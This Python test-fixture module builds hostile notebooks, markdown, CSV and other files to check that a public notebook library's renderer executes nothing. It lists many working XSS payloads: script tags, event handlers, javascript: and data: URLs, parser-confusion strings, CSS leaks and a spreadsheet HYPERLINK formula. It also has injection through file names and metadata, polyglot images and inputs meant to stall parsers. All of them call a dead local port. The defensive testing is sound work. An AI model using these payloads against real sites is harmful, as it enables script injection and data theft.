"""Files a hostile publisher might put in the public library, to check that rendering them runs nothing.

Every payload carries the marker PWNED and, if it ever ran in a browser, does something a browser test can
see: it sets document.title to PWNED, fetches http://127.0.0.1:9/leak (a port nothing listens on, so only
the attempt is visible) and posts PWNED to the parent window. Payloads that must vanish entirely, not just
be neutralised, carry their own marker (see VANISHING) so a test can check that not even their text is left.
"""

from __future__ import annotations

import base64
import json
import struct
import zlib
from typing import Any

PAYLOAD = "document.title='PWNED';fetch('http://127.0.0.1:9/leak?PWNED');window.parent.postMessage('PWNED','*')"
LEAK = "http://127.0.0.1:9/leak?PWNED"

# Markers of content that must not reach the page at all, not even as text.
JS_OUTPUT = "JS-OUTPUT-PWNED"
SVG_OUTPUT = "SVG-OUTPUT-PWNED"
WIDGET_VIEW = "WIDGET-VIEW-PWNED"
WIDGET_STATE = "WIDGET-STATE-PWNED"
SVG_ATTACHMENT = "SVG-ATTACHMENT-PWNED"
HTML_ATTACHMENT = "HTML-ATTACHMENT-PWNED"
TITLE = "TITLE-PWNED"
SCRIPT_TEXT = "SCRIPT-TEXT-PWNED"
VANISHING = (JS_OUTPUT, SVG_OUTPUT, WIDGET_VIEW, WIDGET_STATE, SVG_ATTACHMENT, HTML_ATTACHMENT, TITLE, SCRIPT_TEXT)


# Markup a publisher may write in a markdown cell, a markdown file or an HTML output. Raw HTML blocks are
# separated by blank lines, so that markdown renders each as a block of its own.
def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


HOSTILE_HTML = [
    f"<script>{PAYLOAD};'{SCRIPT_TEXT}'</script>",
    f'<SCRIPT SRC="{LEAK}"></SCRIPT>',
    f'<img src=x onerror="{PAYLOAD}">',
    f'<img src="x" ONERROR="{PAYLOAD}" alt="caps">',
    f'<a href="javascript:{PAYLOAD}">raw javascript link</a>',
    f'<a href="jav&#x09;ascript:{PAYLOAD}">tab in scheme</a>',
    f'<a href=" JaVaScRiPt:{PAYLOAD}">mixed case</a>',
    "<a href=\"vbscript:msgbox('PWNED')\">vbscript</a>",
    f'<a href="data:text/html;base64,{_b64(f"<script>{PAYLOAD}</script>")}">data PWNED</a>',
    f'<a href="data:text/html,<script>{PAYLOAD}</script>">data plain</a>',
    f'<a href="#top" onclick="{PAYLOAD}">click</a>',
    f'<div onmouseover="{PAYLOAD}">hover</div>',
    f'<details open ontoggle="{PAYLOAD}"><summary>toggle</summary>x</details>',
    f'<iframe src="javascript:{PAYLOAD}"></iframe>',
    f'<iframe srcdoc="<script>{PAYLOAD}</script>"></iframe>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{PAYLOAD}">',
    f'<meta http-equiv="refresh" content="0;url={LEAK}">',
    f"<svg><script>{PAYLOAD}</script></svg>",
    f'<svg onload="{PAYLOAD}"><circle r="5"/></svg>',
    f'<svg><a xlink:href="javascript:{PAYLOAD}"><text y="20">svg link</text></a></svg>',
    "<style>body{background:url(http://127.0.0.1:9/leak?PWNED-style)}</style>",
    "<style>@import url(http://127.0.0.1:9/leak?PWNED-import);</style>",
    f'<form action="{LEAK}" method="post"><input name="x" value="PWNED"><button>send</button></form>',
    f'<form><button formaction="javascript:{PAYLOAD}">go</button></form>',
    f'<object data="javascript:{PAYLOAD}"></object>',
    f'<object data="{LEAK}" type="text/html"></object>',
    f'<embed src="javascript:{PAYLOAD}">',
    '<base href="http://127.0.0.1:9/PWNED/"><img src="relative-to-base.png" alt="base">',
    '<link rel="stylesheet" href="http://127.0.0.1:9/leak?PWNED-link">',
    '<p style="background:url(http://127.0.0.1:9/leak?PWNED-attribute)">styled paragraph</p>',
    '<div style="behavior:url(http://127.0.0.1:9/leak?PWNED-behavior)">old ie</div>',
    '<img src="http://127.0.0.1:9/leak?PWNED-image.png" alt="remote">',
    '<img src="//127.0.0.1:9/leak?PWNED-protocol-relative.png" alt="protocol relative">',
    '<img src="\\\\127.0.0.1:9\\leak?PWNED-backslash.png" alt="backslashes">',
    '<img src="/hub/logout?PWNED" alt="absolute path">',
    '<img src="../../../hub/logout?PWNED" alt="dot dot">',
    '<img src="%2e%2e/%2e%2e/hub/logout?PWNED" alt="encoded dot dot">',
    '<img srcset="http://127.0.0.1:9/leak?PWNED-srcset.png 2x" alt="srcset">',
    f'<img src="data:image/svg+xml;base64,{_b64(f"<svg><script>{PAYLOAD}</script></svg>")}" alt="svg data uri PWNED">',
    '<video src="http://127.0.0.1:9/leak?PWNED-video" poster="http://127.0.0.1:9/leak?PWNED-poster"></video>',
    f'<audio src=x onerror="{PAYLOAD}"></audio>',
    f'<marquee onstart="{PAYLOAD}">marquee</marquee>',
    f'<isindex action="javascript:{PAYLOAD}">',
    f'<noscript><p title="</noscript><img src=x onerror={PAYLOAD}>"></noscript>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{PAYLOAD}"></style></mglyph></table></mtext></math>',
    f'<svg></p><style><a id="</style><img src=1 onerror={PAYLOAD}>"></style></svg>',
    f'<math href="javascript:{PAYLOAD}"><mi>x</mi></math>',
    f"<template><script>{PAYLOAD}</script></template>",
    f"<textarea></textarea><script>{PAYLOAD}</script>",
    f"<title></title><script>{PAYLOAD}</script>",
    f'<table background="{LEAK}"><tr><td background="{LEAK}">cell</td></tr></table>',
    f"<!--><script>{PAYLOAD}</script>-->",
]

# The same, as markdown: links and images markdown itself makes.
HOSTILE_MARKDOWN = [
    f"[markdown javascript link](javascript:{PAYLOAD})",
    "[markdown vbscript link](vbscript:msgbox('PWNED'))",
    f"[markdown data link](data:text/html,<script>{PAYLOAD}</script>)",
    "![markdown remote image](http://127.0.0.1:9/leak?PWNED-markdown-image.png)",
    f"![markdown javascript image](javascript:{PAYLOAD})",
    f"$<img src=x onerror={PAYLOAD}>$",
    f"$$<script>{PAYLOAD}</script>$$",
]


def tiny_png() -> bytes:
    """A valid 1×1 PNG, so that image outputs and attachments hold a real image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


TINY_PNG_BASE64 = base64.b64encode(tiny_png()).decode()


def notebook(cells: list[dict[str, Any]], metadata: dict[str, Any] | None = None) -> bytes:
    """An nbformat 4 notebook file made of `cells`."""
    content = {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": metadata if metadata is not None else {"language_info": {"name": "python"}},
        "cells": cells,
    }
    return json.dumps(content).encode()


def markdown_cell(source: str, **extra: Any) -> dict[str, Any]:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **extra}


def code_cell(source: str, outputs: list[dict[str, Any]] | None = None, count: int | None = 1) -> dict[str, Any]:
    return {"cell_type": "code", "metadata": {}, "execution_count": count, "source": source, "outputs": outputs or []}


def display(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> dict[str, Any]:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def huge_notebook(cells: int = 20_000) -> bytes:
    """A notebook of `cells` small cells, half markdown and half code with an output: big, but harmless."""
    made = []
    for number in range(cells):
        if number % 2:
            made.append(code_cell(f"x = {number}\nprint(x)", [stream(f"{number}\n")], count=number))
        else:
            made.append(markdown_cell(f"## Cell {number}\n\nSome *text*."))
    return notebook(made)


def slow_notebooks() -> dict[str, bytes]:
    """Notebooks made to take the renderer minutes, had it no bounds: each must render in seconds.

    Unclosed block elements make the HTML parser's work grow with the square of their depth; a line of
    "[" made a regular expression of nbconvert's backtrack; every character of code is a token to
    highlight; coloured output is a tag every few characters.
    """
    divs = "<div>" * 20_000
    return {
        "nested_outputs.ipynb": notebook([code_cell("x", [display({"text/html": divs})]) for _ in range(50)]),
        "nested_cells.ipynb": notebook([markdown_cell("<blockquote>" * 4_000) for _ in range(200)]),
        "brackets.ipynb": notebook([markdown_cell("[" * 100_000), markdown_cell("[a](" * 25_000)]),
        "tokens.ipynb": notebook([code_cell("a+" * 50_000) for _ in range(20)]),
        "colours.ipynb": notebook([code_cell("x", [stream("\x1b[31mred\x1b[0m <x>\n" * 5_000)]) for _ in range(100)]),
    }


def stream(text: str, name: str = "stdout") -> dict[str, Any]:
    return {"output_type": "stream", "name": name, "text": text}


def hostile_markdown_notebook() -> bytes:
    cells = [markdown_cell(html) for html in HOSTILE_HTML]
    cells += [markdown_cell(text) for text in HOSTILE_MARKDOWN]
    cells.append(markdown_cell("\n\n".join(["# Everything at once", *HOSTILE_HTML, *HOSTILE_MARKDOWN])))
    return notebook(cells)


def hostile_outputs_notebook() -> bytes:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{PAYLOAD};'{SVG_OUTPUT}'</script></svg>"
    outputs = [
        display(
            {"application/javascript": f"{PAYLOAD};'{JS_OUTPUT}'", "text/plain": "<IPython.core.display.Javascript>"}
        ),
        display({"text/javascript": f"{PAYLOAD};'{JS_OUTPUT}'"}),
        display({"image/svg+xml": svg, "text/plain": "<Figure size 640x480>"}),
        display({"image/svg+xml": [svg]}),
        display(
            {
                "application/vnd.jupyter.widget-view+json": {"model_id": WIDGET_VIEW, "version_major": 2},
                "text/plain": "IntSlider(value=0)",
            }
        ),
        display({"text/html": "\n".join(HOSTILE_HTML)}),
        # nbconvert puts an output marked `isolated` in an iframe of a data:text/html URL.
        display({"text/html": f"<script>{PAYLOAD}</script><b>isolated</b>"}, {"text/html": {"isolated": True}}),
        display({"text/markdown": "\n\n".join([*HOSTILE_HTML, *HOSTILE_MARKDOWN])}),
        display({"text/latex": f"$<script>{PAYLOAD}</script>$"}),
        # nbconvert writes width and height unquoted, and takes the image's file name from the metadata.
        display(
            {"image/png": TINY_PNG_BASE64, "text/plain": "<Figure>"},
            {
                "image/png": {"width": f"1 onerror={PAYLOAD}", "height": 1, "alt": f'x" onerror="{PAYLOAD}'},
                "filenames": {"image/png": "http://127.0.0.1:9/leak?PWNED-filename.png"},
            },
        ),
        display({"image/png": f'x" onerror="{PAYLOAD}'}),
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "data": {"text/html": f'<div onclick="{PAYLOAD}">result</div>', "text/plain": "result"},
            "metadata": {},
        },
        stream(f"</pre><script>{PAYLOAD}</script>\n"),
        stream(f"\x1b[31m</pre><img src=x onerror={PAYLOAD}>\x1b[0m\n", name="stderr"),
        {
            "output_type": "error",
            "ename": f"<script>{PAYLOAD}</script>",
            "evalue": f"<img src=x onerror={PAYLOAD}>",
            "traceback": [f"\x1b[0;31m<script>{PAYLOAD}</script>\x1b[0m"],
        },
        {"output_type": "weird", "data": {"text/html": f"<script>{PAYLOAD}</script>"}},
    ]
    metadata = {
        "language_info": {"name": "python"},
        "widgets": {
            "application/vnd.jupyter.widget-state+json": {
                "state": {"m": {"model_name": f"<script>{PAYLOAD}</script>{WIDGET_STATE}"}},
                "version_major": 2,
            }
        },
    }
    return notebook([code_cell("display(things)", outputs)], metadata)


def hostile_attachments_notebook() -> bytes:
    svg = f"<svg xmlns='http://www.w3.org/2000/svg'><script>{PAYLOAD};'{SVG_ATTACHMENT}'</script></svg>"
    attachments = {
        "evil.svg": {"image/svg+xml": _b64(svg)},
        "page.html": {"text/html": _b64(f"<script>{PAYLOAD}</script>{HTML_ATTACHMENT}")},
        "good.png": {"image/png": TINY_PNG_BASE64},
        "broken.png": {"image/png": f'x" onerror="{PAYLOAD}'},
    }
    source = "\n\n".join(
        [
            "![svg attachment](attachment:evil.svg)",
            "![html attachment](attachment:page.html)",
            "![png attachment](attachment:good.png)",
            "![broken attachment](attachment:broken.png)",
            "![missing attachment](attachment:missing.png)",
        ]
    )
    return notebook([markdown_cell(source, attachments=attachments)])


def hostile_cells_notebook() -> bytes:
    """Sources and cells that break out of wherever a template might put them."""
    return notebook(
        [
            code_cell(f"s = '</textarea><script>{PAYLOAD}</script>'"),
            code_cell(f"</pre></div><script>{PAYLOAD}</script>"),
            {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"}, "source": f"<script>{PAYLOAD}</script>"},
            {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": f"<img src=x onerror={PAYLOAD}>"},
            {"cell_type": f"<script>{PAYLOAD}</script>", "source": "unknown cell type"},
            markdown_cell(f"# Heading <script>{PAYLOAD}</script>", metadata={"tags": [f"<script>{PAYLOAD}</script>"]}),
            {**code_cell("x"), "id": f'"><script>{PAYLOAD}</script>'},
            {**code_cell("x"), "execution_count": f'"><script>{PAYLOAD}</script>'},
        ]
    )


def hostile_title_notebook() -> bytes:
    metadata = {
        "title": f"</title><script>{PAYLOAD}</script>{TITLE}",
        "authors": [{"name": f"<script>{PAYLOAD}</script>{TITLE}"}],
        "kernelspec": {"display_name": f"<script>{PAYLOAD}</script>{TITLE}", "language": "python", "name": "x"},
        "language_info": {"name": f'python"><script>{PAYLOAD}</script>{TITLE}'},
    }
    return notebook([markdown_cell("A notebook with a hostile title."), code_cell("print(1)")], metadata)


def version_3_notebook() -> bytes:
    """nbformat 3, as old notebooks still are: converted, then cleaned like any other."""
    content = {
        "nbformat": 3,
        "nbformat_minor": 0,
        "metadata": {"name": f"<script>{PAYLOAD}</script>"},
        "worksheets": [
            {
                "cells": [
                    {"cell_type": "heading", "level": 1, "metadata": {}, "source": "Old notebook"},
                    {
                        "cell_type": "code",
                        "language": "python",
                        "input": "print(1)",
                        "prompt_number": 1,
                        "metadata": {},
                        "outputs": [
                            {
                                "output_type": "pyout",
                                "prompt_number": 1,
                                "html": f"<b>old</b><script>{PAYLOAD}</script>",
                                "javascript": f"{PAYLOAD};'{JS_OUTPUT}'",
                                "text": "old",
                                "metadata": {},
                            }
                        ],
                    },
                ]
            }
        ],
    }
    return json.dumps(content).encode()


def hostile_markdown_file() -> bytes:
    return "\n\n".join(["# A README", *HOSTILE_HTML, *HOSTILE_MARKDOWN]).encode()


def hostile_csv() -> bytes:
    rows = [
        ["name", f"<script>{PAYLOAD}</script>"],
        [f"<img src=x onerror={PAYLOAD}>", '=HYPERLINK("http://127.0.0.1:9/leak?PWNED","click")'],
        ['"><svg onload=alert(1)>', "</td></tr></table><script>PWNED</script>"],
    ]
    return "\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows).encode()


def hostile_files() -> dict[str, bytes]:
    """File name → content: every file a hostile publisher might publish to attack the library's visitors."""
    plain = notebook([markdown_cell("# Named to attack"), code_cell("print(1)", [stream("1\n")])])
    return {
        "markdown_cells.ipynb": hostile_markdown_notebook(),
        "outputs.ipynb": hostile_outputs_notebook(),
        "attachments.ipynb": hostile_attachments_notebook(),
        "cells.ipynb": hostile_cells_notebook(),
        "title.ipynb": hostile_title_notebook(),
        "old.ipynb": version_3_notebook(),
        "huge.ipynb": huge_notebook(),
        **slow_notebooks(),
        "nested.md": b"# Deep\n\n" + b"<blockquote>" * 100_000,
        "README.md": hostile_markdown_file(),
        "notes.markdown": hostile_markdown_file(),
        "table.csv": hostile_csv(),
        "notes.txt": f"</pre><script>{PAYLOAD}</script>\n".encode(),
        "script.py": f"print('</pre><script>{PAYLOAD}</script>')\n".encode(),
        "config.json": json.dumps({"x": f"</pre><script>{PAYLOAD}</script>"}).encode(),
        # Names: the storage layer refuses paths that leave the project; the renderer must escape the rest.
        "<img src=x onerror=alert('PWNED')>.ipynb": plain,
        f'"><script>{PAYLOAD}</script>.md': b"# Named to attack\n",
        f"<svg onload={PAYLOAD}>.csv": b"a,b\n1,2\n",
        f"</pre><script>{PAYLOAD}</script>.txt": b"named to attack\n",
        # Images are shown from their URL: only bytes that are the image they claim to be.
        "fake.png": f"<html><script>{PAYLOAD}</script></html>".encode(),
        "fake.jpg": f"<script>{PAYLOAD}</script>".encode(),
        "fake.webp": b"RIFF\x00\x00\x00\x00WAVE" + f"<script>{PAYLOAD}</script>".encode(),
        "polyglot.gif": b"GIF89a/*\x01\x00\x01\x00*/=1;" + f"<script>{PAYLOAD}</script>".encode(),
        # Kinds the library never renders: offered as downloads only.
        "drawing.svg": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{PAYLOAD}\"/>".encode(),
        "page.html": f"<script>{PAYLOAD}</script>".encode(),
        "page.htm": f"<script>{PAYLOAD}</script>".encode(),
        "page.xhtml": f"<script>{PAYLOAD}</script>".encode(),
        # Not notebooks, though named so.
        "deep.ipynb": b"[" * 100_000 + b"]" * 100_000,
        "text.ipynb": f"<script>{PAYLOAD}</script>".encode(),
        "list.ipynb": b"[1, 2, 3]",
        "future.ipynb": json.dumps({"nbformat": 99, "cells": []}).encode(),
    }


# The hostile files the renderer refuses, each for a legitimate reason; every other one renders.
REFUSED = {
    "fake.png",
    "fake.jpg",
    "fake.webp",
    "drawing.svg",
    "page.html",
    "page.htm",
    "page.xhtml",
    "deep.ipynb",
    "text.ipynb",
    "list.ipynb",
    "future.ipynb",
}
